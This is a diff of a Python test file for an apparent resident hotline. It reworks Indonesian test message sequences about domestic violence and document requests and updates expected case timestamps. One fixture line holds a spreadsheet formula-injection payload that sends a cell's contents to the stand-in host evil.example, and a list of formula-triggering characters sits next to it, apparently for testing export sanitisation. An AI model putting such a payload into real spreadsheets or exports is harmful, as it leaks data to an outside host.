@@ -46,11 +46,21 @@ STORY_A = f"Saya dipukul suami — hubungi kakak saya {PHONE_IN_TEXT}, NIK {NIK}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 # Kekerasan in Lompoe, messages wanted, a name given; dokumen in Lemoe (WhatsApp) and Paokmotong.
 REPORT_A = (
-    "halo", "iya", "ok setuju", "1", "gak", "sy sendiri", "34", "1", "suami", "LEWATI", STORY_A,
-    "lompoe", "1", "2", "kapan saja", "LEWATI", "Siti Aminah", "1",
-)  # fmt: skip  (any time: notices go at once; no code word: 18 messages, the last at 10:18)
-REPORT_B = ("halo", "ya", "ya", "dokumen", "akta", "anak", FORMULA, "lemoe", "1", "3", "LEWATI", "1")
-REPORT_C = ("halo", "ya", "ya", "dokumen", "akta", "anak", "Akta anak belum jadi", "paokmotong", "1", "3",
+    "halo",
+    "iya",
+    "ok setuju",
+    "1",
+    "gak",
+    "sy sendiri 34",
+    STORY_A,
+    "suami",
+    "lompoe",
+    "2 kapan saja",
+    "LEWATI",
+    "1 Siti Aminah",
+)  # SMS, questions in pairs; any time: notices go at once; 12 messages, the last at 10:12
+REPORT_B = ("halo", "ya", "ya", "dokumen", "akta", "anak", FORMULA, "lemoe", "3", "LEWATI", "1")
+REPORT_C = ("halo", "ya", "ya", "dokumen", "akta", "2 Akta anak belum jadi", "paokmotong", "3",
             "LEWATI", "1")  # fmt: skip
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 WITA = timezone(timedelta(hours=8))
@@ -261,9 +271,9 @@ def test_cases_with_category_area_status_times_and_referrals(hotline, world, fmt
     assert (c["site"], c["area"]) == ("MSB", "Paokmotong")
     assert a["urgent"] in (False, "no") and a["holder"] == "Bu Ani"
     assert a["referrals"] in (["UPTD PPA"], "UPTD PPA") and b["referrals"] in ([], "", None)
-    assert a["created"] == f"{day(0)}T10:18:00+08:00"
+    assert a["created"] == f"{day(0)}T10:12:00+08:00"
     assert a["created"] < a["accepted"] < a["closed"] and a["closed"].endswith("+08:00")
-    assert b["created"] == f"{day(2)}T00:42:00+08:00" and b["accepted"] in (None, "")
+    assert b["created"] == f"{day(2)}T00:41:00+08:00" and b["accepted"] in (None, "")
     assert a["resident"] == redact.pseudonym(contact_of(hotline, RESIDENT), SECRET) != b["resident"]
 
 
@@ -305,7 +315,7 @@ def test_redacted_by_default_contacts_when_asked(hotline, world) -> None:
     case_a = full["cases"][0]
     assert case_a["resident"] == f"Siti Aminah ({RESIDENT})"
     texts = [m["text"] for m in full["messages"]]
-    assert STORY_A in texts and "Siti Aminah" in texts
+    assert STORY_A in texts and "1 Siti Aminah" in texts  # on SMS the name comes with "send"
     assert f"Siti Aminah ({RESIDENT})" in {m["party"] for m in full["messages"]}
     assert full["cases"][1]["resident"] == f"Warga ({RESIDENT_B})"  # WhatsApp profile name
 
